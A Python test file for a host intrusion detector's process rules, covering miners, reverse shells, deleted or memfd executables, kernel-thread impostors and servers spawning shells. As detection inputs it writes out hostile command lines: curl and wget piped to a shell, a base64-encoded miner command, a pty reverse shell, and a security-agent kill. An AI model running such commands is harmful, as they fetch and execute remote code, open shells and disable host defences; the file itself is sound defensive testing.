"""Process rules, on hand-built processes (every branch) and on real planted processes read
through the local source."""

from __future__ import annotations

import base64
import socket
from dataclasses import replace

import pytest

from backends.facts import gather_facts
from backends.facts_decode import decode_facts
from domain.detect import Detector
from domain.detect.commands import CommandScanner, base64_forms
from domain.facts import ExeProbe, FileMeta, HostFacts
from domain.findings import Finding, Severity
from domain.model import HostSnapshot, Process, Socket
from tests.fakes import T0, metrics, process, socket_row
from tests.planted import (
    Planted,
    deleted_binary,
    kworker_impostor,
    local_snapshot,
    process_of,
    reverse_shell,
)

# Fixtures: planted processes, a fake pool, system roots.

C, H, M, L = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW


def snap(*procs: Process, sockets: tuple[Socket, ...] = ()) -> HostSnapshot:
    base = (
        process(1, "systemd", 0.1, exe="/usr/lib/systemd/systemd", cmdline=("/sbin/init",), ppid=0),
    )
    return HostSnapshot(
        host="h",
        hostname="h",
        taken_at=T0,
        source="test",
        metrics=metrics(1),
        processes=base + procs,
        sockets=sockets,
    )


def run(snapshot: HostSnapshot, facts: HostFacts | None = None) -> list[Finding]:
    return Detector().evaluate(snapshot, facts)


def of(findings: list[Finding], rule: str, pid: int | None = None) -> list[Finding]:
    return [f for f in findings if f.rule_id == rule and (pid is None or f.evidence.pid == pid)]


def test_miner_names_exact_and_variants() -> None:
    fs = run(
        snap(
            process(10, "kdevtmpfsi", exe="/tmp/kdevtmpfsi"),
            process(11, "x", exe="/opt/xmrig-6.21.0/xmrig-6.21", cmdline=("./xmrig-6.21",)),
            process(12, "NetworkManager", exe="/usr/sbin/NetworkManager"),
            process(13, "kswapd0", exe="", cmdline=(), kernel_thread=True, ppid=2),
        )
    )
    assert {f.evidence.pid for f in of(fs, "PROC-MINER-NAME")} == {10, 11}
    assert all(f.severity == C for f in of(fs, "PROC-MINER-NAME"))


def test_mining_command_lines_plain_and_base64() -> None:
    encoded = "echo ZXhlYyAuL3ggLW8gc3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGU6MzMzMw== | base64 -d | sh"
    fs = run(
        snap(
            process(
                20, "java", cmdline=("java", "-jar", "app.jar", "-o", "stratum+ssl://1.2.3.4:443")
            ),
            process(21, "sh", exe="/usr/bin/dash", cmdline=("sh", "-c", encoded)),
            process(22, "svc", cmdline=("svc", "--url", "pool.supportxmr.com:443")),
            process(23, "svc2", cmdline=("svc2", "--algo=rx/0", "--cpu-priority", "5")),
            process(24, "nginx", cmdline=("nginx: worker process",)),
        )
    )
    miner = {f.evidence.pid: f.severity for f in of(fs, "PROC-MINER-CMDLINE")}
    assert miner == {20: C, 21: C, 22: C, 23: H}
    assert of(fs, "PROC-DOWNLOAD-EXEC", 21)[0].severity == C  # base64 | sh


def test_base64_forms_find_the_marker_at_any_alignment() -> None:
    forms = base64_forms("stratum+tcp://")
    for prefix in (b"", b"a", b"ab", b"abc"):
        blob = base64.b64encode(prefix + b"stratum+tcp://pool:3333").decode()
        assert any(f in blob for f in forms), prefix


def test_download_reverse_shell_and_evasion_markers() -> None:
    fs = run(
        snap(
            process(
                30,
                "bash",
                exe="/usr/bin/bash",
                cmdline=("bash", "-c", "curl -s http://x/i.sh | bash"),
            ),
            process(31, "bash", exe="/usr/bin/bash", cmdline=("bash", "-i"), tty_nr=0),
            process(
                32,
                "python3",
                cmdline=(
                    "python3",
                    "-c",
                    "import socket,pty;s=socket.socket();pty.spawn('/bin/sh')",
                ),
            ),
            process(
                33,
                "sh",
                exe="/usr/bin/dash",
                cmdline=("sh", "-c", "chattr +i /etc/cron.d/x; pkill AliYunDun"),
            ),
            process(
                34, "sh", exe="/usr/bin/dash", cmdline=("sh", "-c", "find /tmp -mtime +7 -delete")
            ),
        )
    )
    assert of(fs, "PROC-DOWNLOAD-EXEC", 30)[0].severity == C
    assert of(fs, "PROC-REVERSE-SHELL", 32)[0].severity == C
    assert not of(fs, "PROC-REVERSE-SHELL", 31)  # an interactive shell without sockets
    assert of(fs, "PROC-EVASION", 33)[0].severity == C  # agent killing
    assert not [f for f in fs if f.evidence.pid == 34]


def test_deleted_executable_severities() -> None:
    started = T0 - 3600
    procs = (
        process(40, "kd", exe="/dev/shm/.x/kd", exe_deleted=True, start_time=started),
        process(41, "nginx", exe="/usr/sbin/nginx", exe_deleted=True, start_time=started),
        process(42, "sshd", exe="/usr/sbin/sshd", exe_deleted=True, start_time=started),
        process(43, "agent", exe="/usr/sbin/agent", exe_deleted=True, start_time=started),
        process(44, "app", exe="/srv/app/bin/app", exe_deleted=True, start_time=started),
        process(45, "web", exe="/usr/local/bin/web", exe_deleted=True, start_time=started),
    )
    upgraded = FileMeta(path="/usr/sbin/nginx", uid=0, mode=0o100755, ctime=started + 60)
    writable = FileMeta(path="/usr/sbin/sshd", uid=1000, mode=0o100777, ctime=started + 60)
    facts = HostFacts(
        host="h",
        root="/",
        gathered_at=T0,
        exe_probes=(
            ExeProbe(41, "/usr/sbin/nginx", upgraded),
            ExeProbe(42, "/usr/sbin/sshd", writable),
            ExeProbe(43, "/usr/sbin/agent", None),
        ),
        foreign_mnt_ns_pids=frozenset({45}),
    )
    fs = run(snap(*procs), facts)
    severity = {f.evidence.pid: f.severity for f in of(fs, "PROC-EXE-DELETED")}
    assert severity == {40: C, 41: L, 42: M, 43: H, 44: H, 45: L}
    assert of(fs, "PROC-EXE-TEMP", 40)[0].severity == H  # /dev/shm
    without_facts = {f.evidence.pid: f.severity for f in of(run(snap(*procs)), "PROC-EXE-DELETED")}
    assert without_facts[41] == M  # cannot tell an upgrade from a swap without looking


def test_memfd_executables() -> None:
    memfd = {"exe_memfd": True, "exe_deleted": True}
    fs = run(
        snap(
            process(50, "runc:[1:CHILD]", exe="/memfd:runc_cloned:/proc/self/exe", **memfd),
            process(51, "supervisor", exe="/memfd:sealed-abc", **memfd),
            process(52, "x", 180.0, exe="/memfd:sealed-abc", **memfd),
            process(53, "y", exe="/memfd:", **memfd),
            process(54, "z", exe="/memfd:payload", **memfd),
        )
    )
    severity = {f.evidence.pid: f.severity for f in of(fs, "PROC-EXE-MEMFD")}
    assert severity[50] == L and severity[51] == M and severity[52] == H and severity[53] == H
    networked = snap(
        process(54, "z", exe="/memfd:payload", **memfd),
        sockets=(
            socket_row(
                40000,
                54,
                "z",
                local_addr="10.0.0.2",
                remote_addr="198.51.100.1",
                remote_port=443,
                state="ESTABLISHED",
            ),
        ),
    )
    assert of(run(networked), "PROC-EXE-MEMFD", 54)[0].severity == H
    assert not of(fs, "PROC-EXE-DELETED")  # memfd is its own rule


def test_temp_and_hidden_executables() -> None:
    fs = run(
        snap(
            process(60, "a", exe="/tmp/a"),
            process(61, "b", exe="/var/tmp/.cache/b"),
            process(62, "python3.11", exe="/root/.pyenv/versions/3.11.7/bin/python3.11"),
            process(63, "node", exe="/home/dev/.vscode-server/bin/abc/node"),
            process(64, "upd", exe="/root/.configrc/a/upd"),
            process(65, "c", exe="/tmp/c"),
            process(66, "d", exe="/dev/shm/d"),
            process(67, "e", exe="/tmp/e", user="www-data", uid=33),
            process(68, "f", exe="/tmp/go-build1/b001/pkg.test"),
            process(69, "g", exe="/tmp/g"),
            sockets=(
                socket_row(
                    40000,
                    69,
                    "g",
                    local_addr="10.0.0.2",
                    remote_addr="198.51.100.1",
                    remote_port=443,
                    state="ESTABLISHED",
                ),
            ),
        ),
        HostFacts(host="h", root="/", gathered_at=T0, foreign_mnt_ns_pids=frozenset({65})),
    )
    severity = {f.evidence.pid: f.severity for f in of(fs, "PROC-EXE-TEMP")}
    assert severity == {60: M, 61: H, 64: M, 65: L, 66: H, 67: H, 68: M, 69: H}


def test_kernel_thread_impostors() -> None:
    fs = run(
        snap(
            process(70, "kworker/0:2", exe="/usr/bin/python3"),
            process(71, "bash", exe="/usr/bin/bash", cmdline=("[kworker/u8:1]",)),
            process(72, "kworker/0:1", exe="", cmdline=(), kernel_thread=True, ppid=2),
            process(73, "kswapd0", exe="/root/.configrc/a/kswapd0"),
            process(74, "watchdog", exe="/usr/sbin/watchdog"),
        )
    )
    assert {f.evidence.pid for f in of(fs, "PROC-KTHREAD-IMPOSTOR")} == {70, 71, 73}


def test_daemon_impostors() -> None:
    fs = run(
        snap(
            process(80, "sshd", exe="/usr/sbin/sshd"),
            process(81, "sshd", exe="/var/lib/sshd"),
            process(82, "crond", exe="/dev/shm/.c/crond"),
            process(83, "systemd", exe="/usr/lib/systemd/systemd"),
            process(84, "sshd", exe="/usr/local/sbin/sshd"),
        )
    )
    assert {f.evidence.pid: f.severity for f in of(fs, "PROC-DAEMON-IMPOSTOR")} == {81: H, 82: C}


def test_shells_holding_sockets() -> None:
    def conn(pid: int, remote: str, state: str = "ESTABLISHED", port: int = 4444) -> Socket:
        return socket_row(
            41000 + pid,
            pid,
            "bash",
            local_addr="10.0.0.2",
            remote_addr=remote,
            remote_port=port,
            state=state,
        )

    bash = {"exe": "/usr/bin/bash", "cmdline": ("bash",)}
    fs = run(
        snap(
            process(90, "bash", **bash),
            process(91, "bash", **bash),
            process(92, "bash", **bash),
            process(93, "bash", tty_nr=34816, **bash),
            process(94, "python3", cmdline=("python3", "app.py")),
            sockets=(
                conn(90, "198.51.100.7"),
                conn(91, "127.0.0.1"),
                socket_row(5555, 92, "bash"),
                conn(93, "198.51.100.7"),
                conn(94, "198.51.100.7", port=443),
            ),
        )
    )
    severity = {f.evidence.pid: f.severity for f in of(fs, "PROC-REVERSE-SHELL")}
    assert severity == {90: C, 91: H, 92: M}
    assert of(fs, "PROC-REVERSE-SHELL", 90)[0].evidence.remote_addr == "198.51.100.7"


def test_servers_spawning_shells_and_downloaders() -> None:
    fs = run(
        snap(
            process(100, "redis-server", exe="/usr/bin/redis-server"),
            process(101, "sh", ppid=100, exe="/usr/bin/dash", cmdline=("sh", "-c", "id")),
            process(110, "php-fpm8.2", exe="/usr/sbin/php-fpm8.2"),
            process(
                111,
                "sh",
                ppid=110,
                exe="/usr/bin/dash",
                cmdline=("sh", "-c", "convert a.png b.jpg"),
            ),
            process(112, "sh", ppid=110, exe="/usr/bin/dash", cmdline=("sh", "-c", "x")),
            process(
                113,
                "curl",
                ppid=112,
                exe="/usr/bin/curl",
                cmdline=("curl", "-o", "/tmp/x", "http://e/x"),
            ),
            process(120, "postgres", exe="/usr/lib/postgresql/15/bin/postgres"),
            process(
                121,
                "sh",
                ppid=120,
                exe="/usr/bin/dash",
                cmdline=("sh", "-c", "cp pg_wal/1 /archive/1"),
            ),
            process(
                130,
                "java",
                exe="/usr/lib/jvm/java-17/bin/java",
                cmdline=("java", "org.apache.catalina.startup.Bootstrap"),
            ),
            process(
                131,
                "bash",
                ppid=130,
                exe="/usr/bin/bash",
                cmdline=("bash", "-c", "wget http://1.2.3.4/x | sh"),
            ),
            process(140, "sshd", exe="/usr/sbin/sshd"),
            process(141, "bash", ppid=140, exe="/usr/bin/bash", cmdline=("-bash",)),
        )
    )
    severity = {f.evidence.pid: f.severity for f in of(fs, "PROC-WEB-SPAWN")}
    assert severity == {101: C, 111: M, 112: M, 113: H, 121: L, 131: C}


def test_scanners() -> None:
    fs = run(
        snap(
            process(150, "masscan"), process(151, "nmap"), process(152, "zgrab2", exe="/tmp/zgrab2")
        )
    )
    assert {f.evidence.pid: f.severity for f in of(fs, "PROC-SCANNER")} == {150: H, 151: M, 152: H}


def test_hostile_names_are_data_not_a_problem() -> None:
    hostile = "\x1b]0;PWNED\x07[kworker/0:1]\u202e"
    fs = run(snap(process(160, hostile, exe="/tmp/" + hostile, cmdline=(hostile,))))
    assert of(fs, "PROC-EXE-TEMP", 160)
    for f in fs:
        assert "\x1b" not in f.explanation and "\x1b" not in f.title


def test_scanner_finds_nothing_in_ordinary_commands() -> None:
    scanner = CommandScanner()
    for command in (
        "/usr/sbin/sshd -D",
        "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;",
        "/usr/bin/python3 /usr/bin/networkd-dispatcher --run-startup-triggers",
        "postgres: checkpointer",
        "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock",
        "/lib/systemd/systemd-journald",
        "sh -c /usr/lib/apt/apt.systemd.daily update",
        "tar -C /tmp -xzf /var/cache/x.tgz",
        "/usr/bin/java -Djava.io.tmpdir=/tmp -jar /opt/app.jar",
        "rsync -a /tmp/build/ /srv/www/",
        "bash /root/.acme.sh/acme.sh --cron --home /root/.acme.sh",
    ):
        assert scanner.scan(command) == [], command


# -- real planted processes, read through the local source ----------------------------------


def test_planted_deleted_binary_in_dev_shm(planted: Planted) -> None:
    proc = deleted_binary(planted, "kd")
    snapshot = local_snapshot()
    p = process_of(snapshot, proc.pid)
    assert p.exe_deleted and p.exe.endswith("/kd")
    detector = Detector()
    request = detector.facts_request(snapshot)
    assert (proc.pid, p.exe) in request.exe_probes
    facts = decode_facts(
        gather_facts("/", "/proc", request.probe_paths, request.exe_probes), snapshot.host
    )
    fs = detector.evaluate(snapshot, facts)
    assert of(fs, "PROC-EXE-DELETED", proc.pid)[0].severity == C
    assert of(fs, "PROC-EXE-TEMP", proc.pid)[0].severity == H


def test_planted_deleted_miner_name(planted: Planted) -> None:
    proc = deleted_binary(planted, "kdevtmpfsi")
    fs = Detector().evaluate(local_snapshot())
    assert of(fs, "PROC-MINER-NAME", proc.pid)[0].severity == C


def test_planted_kernel_thread_impostor(planted: Planted) -> None:
    proc = kworker_impostor(planted)
    snapshot = local_snapshot()
    p = process_of(snapshot, proc.pid)
    assert p.name == "kworker/0:2" and not p.kernel_thread
    assert p.cmdline[0] == "[kworker/0:2]"
    fs = Detector().evaluate(snapshot)
    found = of(fs, "PROC-KTHREAD-IMPOSTOR", proc.pid)
    assert found and found[0].severity == C
    assert not [f for f in of(fs, "PROC-KTHREAD-IMPOSTOR") if f.evidence.pid != proc.pid]


def test_planted_reverse_shell(planted: Planted) -> None:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    try:
        proc = reverse_shell(planted, server.getsockname()[1])
        peer, _ = server.accept()
        try:
            fs = Detector().evaluate(local_snapshot())
        finally:
            peer.close()
    finally:
        server.close()
    found = of(fs, "PROC-REVERSE-SHELL", proc.pid)
    assert {f.severity for f in found} == {C, H}  # the /dev/tcp marker; the loopback socket
    socket_finding = [f for f in found if f.evidence.remote_port is not None]
    assert socket_finding[0].evidence.remote_addr == "127.0.0.1"


def test_real_kernel_threads_are_left_alone() -> None:
    snapshot = local_snapshot()
    kthreads = [p for p in snapshot.processes if p.kernel_thread]
    if not kthreads:
        pytest.skip("no kernel threads visible (container?)")
    fs = Detector().evaluate(replace(snapshot, processes=tuple(kthreads)))
    assert [f for f in fs if f.rule_id.startswith("PROC-")] == []
